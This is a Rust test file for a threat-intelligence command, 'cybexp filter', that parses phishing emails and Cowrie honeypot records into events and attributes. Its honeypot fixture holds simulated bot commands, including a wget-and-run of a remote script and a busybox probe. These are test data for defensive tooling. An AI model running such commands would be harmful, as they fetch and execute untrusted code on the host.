//! `cybexp filter`: runs a filter on a record.

use std::process::Command;

use serde_json::Value;

use cybexp_testkit::Site;
use serde_json::json;
use tahoe_core::{Attribute, Event, OrgId, SubType, Timestamp};

use crate::{CYBEXP, CommandOutput, cybexp, json_of, run};

const MAIL: &str = "From: Jane <jdoe@example.com>\nTo: bob@example.org\nSubject: Invoice\n\
    Date: Tue, 28 Apr 2020 02:00:05 +0200\nX-Originating-IP: [203.0.113.7]\n\n\
    Pay at hxxp://pay[.]evil[.]example/now\n";

fn filter(more: &[&str], record: &str) -> CommandOutput {
    let args = ["filter", "test", "-", "--typetag"];
    run(Command::new(CYBEXP).args(args).args(more), record)
}

#[test]
fn a_record_is_shown_as_trees_of_what_it_makes() {
    let out = filter(&["email"], MAIL).good();
    for line in [
        "event email unknown 2020-04-28T00:00:05Z ",
        "├─ subject Invoice",
        "│  ├─ ipv4 203.0.113.7",
        "url hxxp://pay[.]evil[.]example/now",
        "hostname pay.evil.example",
    ] {
        assert!(out.contains(line), "{line}\n{out}");
    }
    assert!(!out.contains("malicious"), "{out}");

    let login = r#"{"eventid": "cowrie.login.failed", "session": "a1", "src_ip": "203.0.113.7",
        "username": "root", "password": "x", "timestamp": "2020-04-28T09:00:05"}"#;
    let out = filter(&["cowrie", "--timezone", "Asia/Tokyo"], login).good();
    for line in [
        "event ssh malicious 2020-04-28T00:00:05Z ",
        "ipv4 203.0.113.7 malicious",
        "session cowrie_session ",
        "└─ sessionid a1",
    ] {
        assert!(out.contains(line), "{line}\n{out}");
    }
}

#[test]
fn documents_are_those_that_would_be_stored() {
    let args = [
        "sighting",
        "--json",
        "--orgid",
        "unr",
        "--timestamp",
        "2020-04-28T00:00:05Z",
    ];
    let documents = json_of(&filter(&args, r#"{"ipv4": "203.0.113.7"}"#).good());
    let [event, attribute] = &documents.as_array().unwrap()[..] else {
        panic!("{documents}");
    };
    assert_eq!(event["timestamp"], 1_588_032_005.0);
    assert_eq!(event["orgid"], "unr");
    assert_eq!(
        event["_cref"],
        Value::from(vec![attribute["_hash"].clone()])
    );
    assert_eq!(attribute["data"], "203.0.113.7");
}

#[test]
fn what_is_left_out_is_said() {
    let urls: String = (0..501)
        .map(|n| format!("http://a.example/{n}\n"))
        .collect();
    let made = filter(&["email"], &(MAIL.to_owned() + &urls));
    assert!(made.err.contains("left out: 1 × urls"), "{}", made.err);
    made.good();
}

#[test]
fn a_refusal_says_who_refuses_and_why() {
    let refused = filter(&["email"], "no mail at all").bad();
    assert!(
        refused.contains("refused by the filter email@") && refused.contains("no header field"),
        "{refused}"
    );
    let large = MAIL.to_owned() + &"x".repeat(15 << 20);
    let refused = filter(&["email"], &large).bad();
    assert!(
        refused.contains("refused by the archive") && refused.contains("15 MiB"),
        "{refused}"
    );
    let nan = filter(&["cowrie"], r#"{"x": NaN}"#).bad();
    assert!(nan.contains("refused by the archive: data: "), "{nan}");
    let missing = run(
        Command::new(CYBEXP).args(["filter", "test", "/no/such/file", "-t", "email"]),
        "",
    );
    assert!(missing.bad().contains("/no/such/file: No such file"));
}

#[test]
fn a_typetag_that_no_filter_reads_is_wrong_usage() {
    let unknown = filter(&["e-mail"], MAIL);
    assert_eq!(unknown.code, 2);
    for known in ["cowrie", "unr_honeypot", "email", "sighting"] {
        assert!(unknown.err.contains(known), "{}", unknown.err);
    }
}

#[test]
fn a_file_is_read_as_the_archive_reads_it() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("mail.eml");
    let latin1: Vec<u8> = MAIL
        .replace("Jane", "Ren\u{e9}")
        .chars()
        .map(|c| c as u8)
        .collect();
    let utf16 = format!("\u{feff}{}", MAIL.replace("Jane", "René"));
    let utf16: Vec<u8> = utf16.encode_utf16().flat_map(u16::to_le_bytes).collect();
    for bytes in [latin1, utf16] {
        std::fs::write(&path, bytes).unwrap();
        let mut command = Command::new(CYBEXP);
        let out = run(
            command.args(["filter", "test", "-t", "email"]).arg(&path),
            "",
        )
        .good();
        assert!(out.contains("name René"), "{out}");
    }
}

/// Two sessions of one bot, a record a line.
fn sessions() -> String {
    let mut lines = String::new();
    for (session, word, address) in [
        ("a1", "QWERT", "203.0.113.80"),
        ("b2", "ZXKVB", "198.51.100.4"),
    ] {
        for (second, input) in [
            format!("cat /proc/mounts; /bin/busybox {word}"),
            format!("cd /tmp; wget http://{address}/x.sh; sh x.sh"),
        ]
        .iter()
        .enumerate()
        {
            lines += &format!(
                r#"{{"eventid": "cowrie.command.input", "session": "{session}", "src_ip": "203.0.113.7", "input": "{input}", "timestamp": "2026-01-02T03:04:0{second}Z"}}"#
            );
            lines.push('\n');
        }
    }
    lines
}

#[test]
fn lines_are_records_and_sessions_are_derived_from() {
    let out = filter(&["cowrie", "--lines"], &sessions()).good();
    for line in [
        "derived by netblock@1",
        "cidr 203.0.113.0/24",
        "derived by behaviour@2",
        "command_count 2",
    ] {
        assert!(out.contains(line), "{line}\n{out}");
    }
    let documents = json_of(&filter(&["cowrie", "--lines", "--json"], &sessions()).good());
    let documents = documents.as_array().unwrap();
    let behaviours: Vec<&Value> = documents
        .iter()
        .filter(|document| document["itype"] == "event" && document["sub_type"] == "behaviour")
        .collect();
    assert_eq!(
        behaviours.len(),
        1,
        "two sessions of one bot at one time are one event"
    );
    assert_eq!(behaviours[0]["derived"], true);

    // of one record, the documents are those of the first stage, unless it is said
    let line = sessions().lines().next().unwrap().to_owned();
    let has_derived = |out: String| out.contains("\"derived\"");
    assert!(!has_derived(filter(&["cowrie", "--json"], &line).good()));
    assert!(has_derived(
        filter(&["cowrie", "--json", "--derived"], &line).good()
    ));

    // a line that is refused is told, and the others go on
    let mixed = format!("{line}\n{{\"eventid\": \"cowrie.command.input\"}}\n");
    let told = filter(&["cowrie", "--lines"], &mixed);
    assert!(
        told.err.contains("line 2: refused by the filter cowrie@"),
        "{}",
        told.err
    );
    assert_eq!(told.code, 0);
}

/// A backfill runs a filter over all that was in the archive before it, once more each time.
#[tokio::test(flavor = "multi_thread")]
async fn a_filter_is_run_over_what_is_there() {
    let site = Site::new("backfill", json!({})).await;
    let mut batch = cybexp_store::GraphBatch::default();
    for at in [1.0, 2.0] {
        let ip = Attribute::new(SubType::from_static("ipv4"), "198.51.100.7");
        let (orgid, at) = (OrgId::new("unr").unwrap(), Timestamp::new(at).unwrap());
        let event = Event::new(SubType::from_static("sighting"), orgid, at, vec![ip.into()]);
        batch.add_event(event.unwrap());
    }
    site.graph.write(&batch).await.unwrap();
    let networks = async || {
        let tally = site.archive.tally().await.unwrap();
        let derived = tally.iter().find(|tally| tally.sub_type == "netblock");
        derived.map_or(0, |tally| tally.count)
    };
    for _ in 0..2 {
        let out = cybexp(&site, &["filter", "backfill", "netblock"]).good();
        assert!(out.contains("1 attributes read by netblock@1"), "{out}");
        assert_eq!(networks().await, 1);
    }
    let out = cybexp(&site, &["filter", "backfill", "behaviour"]).good();
    assert!(out.contains("0 sessions wait for behaviour@2"), "{out}");
    let told = cybexp(&site, &["filter", "backfill", "geoip"]).bad();
    assert!(
        told.contains("the filter geoip rests") && told.contains("geoip fetch"),
        "{told}"
    );
    let other = cybexp(&site, &["filter", "backfill", "cowrie"]);
    assert_eq!(other.code, 2, "{}", other.err);
}
